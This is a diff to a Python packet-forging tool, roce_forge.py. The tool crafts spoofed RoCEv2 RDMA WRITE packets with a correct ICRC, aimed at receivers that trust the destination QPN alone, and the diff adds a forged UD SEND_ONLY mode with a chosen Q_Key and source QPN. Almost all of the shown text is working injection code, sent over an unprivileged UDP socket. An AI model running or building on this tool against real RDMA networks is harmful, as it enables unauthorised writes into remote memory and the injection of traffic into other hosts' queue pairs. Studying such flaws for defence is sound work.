@@ -5,11 +5,13 @@
 # when a RoCEv2 receiver trusts the destination QPN alone. It sends RC
 # RDMA WRITE packets (Only by default; --op first with a RETH of --total
 # bytes, or middle, or last) with a correct ICRC through an ordinary UDP
-# socket (no raw socket, no capability):
+# socket (no raw socket, no capability). --op ud sends UD SEND_ONLY
+# datagrams instead, with a DETH of --qkey and --sqpn.
 #
-#   roce_forge.py --src IP --dst IP --qpn N --psn N --va ADDR --rkey KEY
+#   roce_forge.py --src IP --dst IP --qpn N --psn N [--va ADDR --rkey KEY]
 #                 [--pkey P] [--count N] [--len BYTES] [--fill BYTE]
-#                 [--op only|first|middle|last] [--total BYTES]
+#                 [--op only|first|middle|last|ud] [--total BYTES]
+#                 [--qkey Q] [--sqpn N]
 #
 # The socket is bound to --src, which must be an address of this host;
 # the kernel writes the IP header, so the ICRC is computed over the header
@@ -24,7 +26,8 @@ import zlib
 
 ROCE_PORT = 4791
 # RC RDMA WRITE opcodes (IBTA table 38); First and Only carry a RETH.
-OPS = {'first': 0x06, 'middle': 0x07, 'last': 0x08, 'only': 0x0a}
+OPS = {'first': 0x06, 'middle': 0x07, 'last': 0x08, 'only': 0x0a,
+       'ud': 0x64}      # UD SEND_ONLY, with a DETH
 IP_MTU_DISCOVER = 10     # <linux/in.h>; not in Python's socket module
 IP_PMTUDISC_DO = 2
 
@@ -49,6 +52,8 @@ def packet(src, sport, dst, a):
     if a.op in ('first', 'only'):
         reth = struct.pack('>QII', a.va, a.rkey,
                            a.total if a.op == 'first' else a.len)
+    if a.op == 'ud':
+        reth = struct.pack('>II', a.qkey, a.sqpn & 0xffffff)
     body = bth + reth + payload + b'\0' * pad
     udp_len = 8 + len(body) + 4
     iph = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, 0, 0x4000, 64,
@@ -64,8 +69,10 @@ def main():
     p.add_argument('--dst', required=True)
     p.add_argument('--qpn', type=lambda x: int(x, 0), required=True)
     p.add_argument('--psn', type=lambda x: int(x, 0), required=True)
-    p.add_argument('--va', type=lambda x: int(x, 0), required=True)
-    p.add_argument('--rkey', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--va', type=lambda x: int(x, 0), default=0)
+    p.add_argument('--rkey', type=lambda x: int(x, 0), default=0)
+    p.add_argument('--qkey', type=lambda x: int(x, 0), default=0x80010000)
+    p.add_argument('--sqpn', type=lambda x: int(x, 0), default=1)
     p.add_argument('--pkey', type=lambda x: int(x, 0), default=0xffff)
     p.add_argument('--count', type=int, default=1)
     p.add_argument('--len', type=int, default=64)
